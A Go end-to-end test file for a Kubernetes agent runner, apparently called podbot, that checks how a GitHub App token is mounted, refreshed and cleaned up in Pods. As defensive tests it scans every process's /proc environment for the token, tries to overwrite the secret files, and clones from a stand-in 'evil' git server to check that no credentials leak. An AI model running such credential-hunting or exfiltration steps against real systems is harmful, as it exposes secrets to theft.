//go:build e2e

package e2e

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/podbot/podbot/github"
	"github.com/podbot/podbot/kube"
)

// podGitServer serves the repositories under root over smart HTTP on the
// host's address on the Pods' bridge, accepting the passwords valid says;
// it returns the server and its base URL.
func podGitServer(t *testing.T, root string, valid func(string) bool) (*gitServer, string) {
	t.Helper()
	l, err := net.Listen("tcp", net.JoinHostPort(podReachableAddr(t), "0"))
	if err != nil {
		t.Fatal(err)
	}
	gs := newGitServer(t, root, valid)
	srv := &http.Server{Handler: gs, ReadHeaderTimeout: 10 * time.Second}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	return gs, "http://" + l.Addr().String() + "/"
}

// TestK8sRunGitHubToken runs podbot run on the cluster with a GitHub App
// (the fake GitHub API, tokens living tokenTTL, only the latest valid) and
// a git server the Pods reach that accepts only the App's current token:
// the clone goes through podbot-sidecar as git's askpass program with a
// token limited to the repository; the token is in the read-only
// /run/secrets of the Pod and nowhere in its spec, its processes' argv or
// environment, nor in any Secret; git sends it to no other host; the
// run's token daemon writes the refreshed token into the Pod (the delay
// from GitHub issuing it to the Pod seeing it is logged); a fetch then
// works with the new token; and after the run (--rm) no Pod,
// NetworkPolicy or Secret is left.
func TestK8sRunGitHubToken(t *testing.T) {
	c := k8sCluster(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	ns := c.k8sNamespace(t, ctx)
	gh, _, keyPath := fakeGitHubAppTTL(t, tokenTTL)
	root := t.TempDir()
	repo := newHostRepo(t, root, "octo-org/demo", "feature")
	head := strings.TrimSpace(git(t, repo.work, "rev-parse", "HEAD"))
	gs, base := podGitServer(t, root, gh.Valid)
	rec := &passwordRecorder{}
	_, evilBase := podGitServer(t, t.TempDir(), rec.refuse)

	pb := c.podbot(ns)
	pb.config = k8sRunConfig(`echo "head=$(git rev-parse HEAD)"; echo ready; while [ ! -e "$HOME/done" ]; do sleep 0.2; done`) +
		fmt.Sprintf("[github]\napp_id = %d\ninstallation_id = %d\nprivate_key_path = %q\napi_url = %q\nclone_base_url = %q\ntoken_refresh_buffer = %q\n",
			gh.AppID(), gh.InstallationID(), keyPath, gh.URL, base, refreshBuffer.String())
	pb.env = []string{"HOME=" + t.TempDir(), "PODBOT_SIDECAR_PATH=" + suite.bin + "/podbot-sidecar"}
	cmd := pb.cmd(t, ctx, "run", "--rm", "--network", "open", "--repo", "octo-org/demo", "--branch", "feature")
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	lines := make(chan string, 16)
	go func() {
		sc := bufio.NewScanner(stdout)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
		_, _ = io.Copy(io.Discard, stdout)
		exited <- cmd.Wait()
	}()
	var out []string
	for ready := false; !ready; {
		select {
		case l, ok := <-lines:
			if !ok {
				t.Fatalf("podbot run ended before the agent was ready: %v\nstdout: %q\nstderr: %s", <-exited, out, stderr.String())
			}
			out = append(out, l)
			ready = l == "ready"
		case <-ctx.Done():
			t.Fatalf("the agent never became ready\nstderr: %s", stderr.String())
		}
	}
	if !slices.Contains(out, "head="+head) {
		t.Errorf("the clone is not at %s: %q", head, out)
	}
	first, _, ok := gh.CurrentToken()
	if !ok {
		t.Fatal("the fake GitHub issued no token")
	}
	if gs.servedWith(first) == 0 {
		t.Error("the git server never served the clone with the installation token")
	}
	reqs := gh.TokenRequests()
	for _, r := range reqs {
		if !slices.Equal(r.Repositories, []string{"demo"}) || !maps.Equal(r.Permissions, github.DefaultTokenPermissions()) {
			t.Errorf("token request %+v; want repositories [demo] and %v", r, github.DefaultTokenPermissions())
		}
	}
	pods, err := c.client.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{})
	if err != nil || len(pods.Items) != 1 {
		t.Fatalf("pods: %v, %v", pods, err)
	}
	pod := pods.Items[0].Name

	// The token is in the read-only mount, and nowhere else.
	if r := c.exec(t, ctx, ns, pod, "", "cat", "/run/secrets/ghapp_token"); r.code != 0 || r.stdout != first {
		t.Fatalf("/run/secrets/ghapp_token in the Pod: exit %d, holds the current token %v", r.code, r.stdout == first)
	}
	if r := c.exec(t, ctx, ns, pod, "", "cat", "/run/secrets/git_origin"); strings.TrimSpace(r.stdout) != strings.TrimSuffix(base, "/") {
		t.Errorf("git_origin %q, want %q", r.stdout, base)
	}
	for _, argv := range [][]string{
		{"sh", "-c", "printf x > /run/secrets/ghapp_token"},
		{"touch", "/run/secrets/other"},
		{"rm", "-f", "/run/secrets/ghapp_token"},
		{"sh", "-c", "printf x > " + kube.SidecarPath},
	} {
		if r := c.exec(t, ctx, ns, pod, "", argv...); r.code == 0 {
			t.Errorf("%v succeeded in the Pod; the token and the sidecar must be read-only", argv)
		}
	}
	if strings.Contains(c.podYAML(t, ctx, ns, pod), first) {
		t.Error("the token is in the Pod spec")
	}
	secrets, err := c.client.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range secrets.Items {
		for k, v := range s.Data {
			if strings.Contains(string(v), first) {
				t.Errorf("Secret %s key %s holds the token", s.Name, k)
			}
		}
	}
	// Every process of the Pod the agent's user can see: argv and environment.
	procs := c.exec(t, ctx, ns, pod, "", "sh", "-c", `for p in /proc/[0-9]*; do cat $p/cmdline $p/environ 2>/dev/null; echo; done`)
	if procs.code != 0 || !strings.Contains(procs.stdout, "GIT_ASKPASS="+kube.SidecarPath) {
		t.Errorf("reading the Pod's processes: exit %d, GIT_ASKPASS=%s seen %v", procs.code, kube.SidecarPath, strings.Contains(procs.stdout, "GIT_ASKPASS"))
	}
	if strings.Contains(procs.stdout, first) {
		t.Error("the token is in a Pod process's argv or environment")
	}

	// git in the Pod sends the token to the clone host alone.
	for i, u := range []string{evilBase + "octo-org/demo.git", "http://x-access-token@" + strings.TrimPrefix(evilBase, "http://") + "octo-org/demo.git"} {
		r := c.exec(t, ctx, ns, pod, "", "git", "clone", "--quiet", u, fmt.Sprintf("/work/stolen-%d", i))
		if r.code == 0 {
			t.Errorf("git clone %s succeeded; the other server must get no credentials", u)
		}
		if strings.Contains(r.stderr, first) {
			t.Errorf("git's stderr for %s shows the token", u)
		}
	}
	if len(rec.offered()) == 0 {
		t.Error("the other git server was never asked: the attack did not run")
	}
	for _, p := range rec.offered() {
		if strings.Contains(p, first) {
			t.Fatal("the other git server received the installation token")
		}
	}

	// The refresh: the run's token daemon writes the new token into the Pod.
	var second string
	var minted time.Time
	for second == "" {
		if cur, _, ok := gh.CurrentToken(); ok && cur != first {
			second, minted = cur, time.Now()
			break
		}
		select {
		case <-ctx.Done():
			t.Fatalf("no refresh within the test\nstderr: %s", stderr.String())
		case <-time.After(100 * time.Millisecond):
		}
	}
	var inPod time.Duration
	for {
		r := c.exec(t, ctx, ns, pod, "", "cat", "/run/secrets/ghapp_token")
		if r.stdout == second {
			inPod = time.Since(minted)
			break
		}
		if ctx.Err() != nil {
			t.Fatal("the refreshed token never reached the Pod")
		}
		time.Sleep(250 * time.Millisecond)
	}
	t.Logf("token refresh: in the Pod's /run/secrets %s after GitHub issued it (polled every 250 ms through pods/exec)", inPod.Round(time.Millisecond))

	// A fetch with the new token works; the old one is refused.
	newSHA := repo.commit(t, "feature", "later.txt", "later\n")
	before := gs.servedWith(second)
	if r := c.exec(t, ctx, ns, pod, "", "git", "-C", "/work/demo", "fetch", "--quiet", "origin"); r.code != 0 {
		t.Fatalf("git fetch after the refresh: exit %d: %s", r.code, r.stderr)
	}
	if r := c.exec(t, ctx, ns, pod, "", "git", "-C", "/work/demo", "rev-parse", "origin/feature"); strings.TrimSpace(r.stdout) != newSHA {
		t.Errorf("origin/feature = %q, want %s", r.stdout, newSHA)
	}
	if gs.servedWith(second) <= before {
		t.Error("the fetch was not served with the refreshed token")
	}

	// The agent ends; --rm deletes Pod, NetworkPolicy and Secret.
	if r := c.exec(t, ctx, ns, pod, "", "sh", "-c", `: > "$HOME/done"`); r.code != 0 {
		t.Fatalf("ending the agent: %s", r.stderr)
	}
	select {
	case err := <-exited:
		if err != nil {
			t.Fatalf("podbot run: %v\nstderr: %s", err, stderr.String())
		}
	case <-ctx.Done():
		t.Fatal("podbot run did not end")
	}
	for _, tok := range []string{first, second} {
		if strings.Contains(stderr.String(), tok) || slices.ContainsFunc(out, func(l string) bool { return strings.Contains(l, tok) }) {
			t.Error("a token reached podbot's output")
		}
	}
	c.waitGone(t, ctx, ns)
	c.nothingLeft(t, ctx, ns)
	c.noSecrets(t, ctx, ns)
}

// TestK8sRunKeptPodLosesToken runs podbot run with a GitHub App and
// without --rm on the cluster: the Pod stays, but its token file is gone
// once podbot run returns (nothing refreshes it any more), the origin file
// stays, and podbot rm -f then leaves no Pod, NetworkPolicy or Secret.
func TestK8sRunKeptPodLosesToken(t *testing.T) {
	c := k8sCluster(t)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	ns := c.k8sNamespace(t, ctx)
	gh, _, keyPath := fakeGitHubAppTTL(t, time.Hour)
	root := t.TempDir()
	newHostRepo(t, root, "octo-org/demo", "feature")
	gs, base := podGitServer(t, root, gh.Valid)

	pb := c.podbot(ns)
	pb.config = k8sRunConfig(`test -s /run/secrets/ghapp_token && echo "token-present"`) +
		fmt.Sprintf("[github]\napp_id = %d\ninstallation_id = %d\nprivate_key_path = %q\napi_url = %q\nclone_base_url = %q\n",
			gh.AppID(), gh.InstallationID(), keyPath, gh.URL, base)
	pb.env = []string{"HOME=" + t.TempDir()}
	r := pb.run(t, ctx, nil, "run", "--name", "kept-token", "--network", "open", "--repo", "octo-org/demo", "--branch", "feature")
	if r.Code != 0 || !strings.Contains(r.Stdout, "token-present") {
		t.Fatalf("podbot run: exit %d\nstdout: %s\nstderr: %s", r.Code, r.Stdout, r.Stderr)
	}
	tok, _, _ := gh.CurrentToken()
	if gs.servedWith(tok) == 0 {
		t.Error("the clone was not served with the installation token")
	}
	if ls := c.exec(t, ctx, ns, "kept-token", "", "ls", "-A", "/run/secrets"); ls.code != 0 || strings.TrimSpace(ls.stdout) != "git_origin" {
		t.Errorf("/run/secrets in the kept Pod: exit %d, %q; want git_origin alone", ls.code, ls.stdout)
	}
	if rm := pb.run(t, ctx, nil, "rm", "-f", "kept-token"); rm.Code != 0 {
		t.Fatalf("podbot rm: exit %d: %s", rm.Code, rm.Stderr)
	}
	c.waitGone(t, ctx, ns)
	c.nothingLeft(t, ctx, ns)
	c.noSecrets(t, ctx, ns)
}
